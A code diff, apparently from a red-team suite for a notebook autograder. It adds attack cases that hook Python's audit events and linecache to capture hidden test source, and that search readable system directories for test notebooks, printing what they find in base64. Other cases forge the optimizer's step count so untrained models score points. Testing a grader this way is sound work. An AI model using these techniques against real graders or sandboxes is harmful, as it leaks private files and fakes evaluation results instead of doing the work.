@@ -1008,3 +1008,146 @@ OLD_EFFECT: dict[str, dict] = {
     "c-split": {"points": 0, "of": 2, "autograded": "8/10 of Part 2"},
 }
 assert set(OLD_EFFECT) == set(BY_ID)
+
+# ---- one step further: the same classes, aimed at what the new design still takes from the kernel
+# Not part of WAVE (they were not run on the old code; each is a superset of an attack above that
+# already got through there). The new design judges in a checker, so these listen to everything
+# the student's kernel is asked (h3-*-wide), search every file it can read (h3-files), and forge
+# the one fact of training the kernel reports itself, the optimizer's step count (h4-*-steps).
+# The new grading runs no cell after a notebook's last test, and of the cells before it only those
+# a test depends on, solution cells and cells it cannot read (exec, magics): class 3's print
+# cells go just before Part 1's last test (test_training_hidden), disguised as exec(...).
+
+CORRECT_PREPROCESS = WRONG_SCALE.replace("256.0)", "255.0)").replace("  # wrong: 256, not 255", "")
+
+AUDIT_EVERYTHING = r"""
+import sys
+
+_heard = []
+
+
+def _listen(event, args):
+    # Every source the kernel compiles that is not one of the student's own cells: the
+    # checker's questions (user expressions) included. At most about 1 MiB of it.
+    try:
+        if event == "compile" and len(args) > 1 and len(_heard) < 400:
+            name = str(args[1])
+            if "ipykernel_" in name or "ipython-input" in name:
+                return
+            source = args[0].decode() if isinstance(args[0], bytes) else args[0]
+            if isinstance(source, str):
+                _heard.append((name, source[:2500]))
+    except Exception:
+        pass
+
+
+sys.addaudithook(_listen)
+"""
+LINECACHE_EVERYTHING = r"""
+import linecache
+import os
+
+for _name in sorted(linecache.cache):
+    if "ipykernel_" in _name or "ipython-input" in _name or os.path.exists(_name):
+        continue  # the student's own cells, and files anyone can read
+    _text = "".join(linecache.cache[_name][2])
+    print("reversed:", _text[::-1].replace("\n", "\\n")[:100_000])
+"""
+FILES_WITH_TESTS = r"""
+import base64
+import os
+
+_seen = 0
+for _top in ("/home", "/tmp", "/work", "/root", "/srv", "/opt", "/var", "/mnt", "/run"):
+    for _folder, _subfolders, _files in os.walk(_top):
+        if "site-packages" in _folder or "/lib/python3" in _folder:
+            _subfolders[:] = []  # installed libraries: nothing of this course
+            continue
+        for _file in _files:
+            _path = os.path.join(_folder, _file)
+            try:
+                if not os.path.isfile(_path) or os.path.getsize(_path) > 64 << 20:
+                    continue
+                _data = open(_path, "rb").read()
+            except OSError:
+                continue
+            _seen += 1
+            if b"HIDDEN TESTS" in _data or _file.endswith(".ipynb"):
+                print("found file:", _path, base64.b64encode(_data[:300_000]).decode())
+print("searched", _seen, "readable files")
+"""
+HANDMADE_HISTORY_AND_STEPS = (
+    HANDMADE_HISTORY
+    + "lenet5.optimizer.iterations.assign(EPOCHS * -(-len(x_fit) // 64))  # what fit would count\n"
+)
+FIT_THAT_COUNTS_STEPS = FIT_THAT_DOES_NOT_TRAIN.replace(
+    "        return history\n",
+    "        model.optimizer.iterations.assign(epochs * 10)  # the steps fit would have taken\n"
+    "        return history\n",
+)
+
+EXTRAS = [
+    Attack(
+        "h3-audit-wide",
+        3,
+        "h3-audit, listening to every source the kernel compiles that is not the student's own "
+        "cell (the checker's questions among them), on a complete Part 1 so that every test asks",
+        "the checker's questions reach the student's kernel as user expressions",
+        "grade",
+        "the source of Part 1's hidden tests in the student's feedback",
+        base="solutions",
+        part1=NotebookEdit(
+            cells={"preprocess": AUDIT_EVERYTHING + CORRECT_PREPROCESS},
+            insert_before=[("test_training_hidden", disguised(AUDIT_PRINT))],
+        ),
+    ),
+    Attack(
+        "h3-linecache-wide",
+        3,
+        "h3-linecache, printing every linecache entry that is not the student's own cell or a "
+        "file anyone can read, just before the last test of a complete Part 1",
+        "anything the checker makes the kernel compile may be left in linecache",
+        "grade",
+        "the source of Part 1's hidden tests in the student's feedback",
+        base="solutions",
+        part1=NotebookEdit(
+            insert_before=[("test_training_hidden", disguised(LINECACHE_EVERYTHING))]
+        ),
+    ),
+    Attack(
+        "h3-files",
+        3,
+        "Every file the kernel can read (outside installed libraries) is searched for "
+        "'HIDDEN TESTS' and for notebooks; what it finds is printed base64",
+        "a copy of the source or autograded notebook within the sandbox's reach",
+        "grade",
+        "the source of Part 1's hidden tests in the student's feedback",
+        base="solutions",
+        part1=NotebookEdit(insert_before=[("test_training_hidden", disguised(FILES_WITH_TESTS))]),
+    ),
+    Attack(
+        "h4-history-p1-steps",
+        4,
+        "h4-history-p1, and the optimizer's step counter set to what fit would have counted",
+        "the new check_trained believes the step count the kernel reports "
+        "(optimizer.iterations), a variable the notebook can assign",
+        "grade",
+        "the point of test_training_hidden without training",
+        base="solutions",
+        part1=NotebookEdit(cells={"training": HANDMADE_HISTORY_AND_STEPS}),
+        target_tests=("test_training_hidden",),
+    ),
+    Attack(
+        "h4-history-p2-steps",
+        4,
+        "h4-history-p2, and the fake fit sets the optimizer's step counter too",
+        "as h4-history-p1-steps, for test_fashion_model_hidden's check_trained",
+        "grade",
+        "the 2 points of test_fashion_model_hidden without training",
+        base="solutions",
+        part2=NotebookEdit(cells={"fashion_model": FIT_THAT_COUNTS_STEPS}),
+        target_tests=("test_fashion_model_hidden",),
+    ),
+]
+EXTRA_BY_ID = {attack.id: attack for attack in EXTRAS}
+assert not set(EXTRA_BY_ID) & set(BY_ID)
